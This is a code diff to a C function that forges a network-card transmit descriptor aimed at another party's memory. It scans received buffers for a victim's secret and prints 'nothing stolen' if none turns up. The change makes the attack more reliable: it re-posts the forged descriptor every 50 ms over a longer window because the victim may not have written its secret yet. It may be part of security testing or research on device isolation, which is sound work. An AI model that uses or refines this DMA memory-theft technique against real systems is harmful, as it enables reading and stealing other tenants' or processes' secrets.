@@ -57,16 +57,24 @@ static int passthrough(const struct opsub_net_info *info, uint64_t target)
 	for (unsigned i = 0; i < 64; i++)
 		nic_rxq_post(&rx, base + (uint64_t)(uintptr_t)(bufs + i * 2048), 2048);
 	nic_rxq_kick(&rx);
-	/* the forged descriptor: someone else's memory */
-	nic_txq_post(&tx, target - 12, 128, NIC_TXD_CMD_EOP, 0);
-	nic_txq_kick(&tx);
-	uint64_t end = opsub_clock_ns() + 2000000000ull;
+	/* the forged descriptor: someone else's memory, read again every
+	 * 50 ms (the victim may not have written its secret yet) */
+	uint64_t end = opsub_clock_ns() + 5000000000ull, next = 0;
 	while (opsub_clock_ns() < end) {
+		if (opsub_clock_ns() >= next) {
+			nic_txq_reap(&tx);
+			nic_txq_post(&tx, target - 12, 128, NIC_TXD_CMD_EOP, 0);
+			nic_txq_kick(&tx);
+			next = opsub_clock_ns() + 50000000ull;
+		}
 		struct nic_rx_desc d;
 		uint32_t index;
-		while (nic_rxq_poll(&rx, &index, &d))
+		while (nic_rxq_poll(&rx, &index, &d)) {
 			if (look_for_secret(mem + (d.addr - base - (uint64_t)(uintptr_t)mem), (uint16_t)d.writeback))
 				return 1;
+			nic_rxq_post(&rx, d.addr, 2048);
+			nic_rxq_kick(&rx);
+		}
 	}
 	printf("nothing stolen\n");
 	return 0;
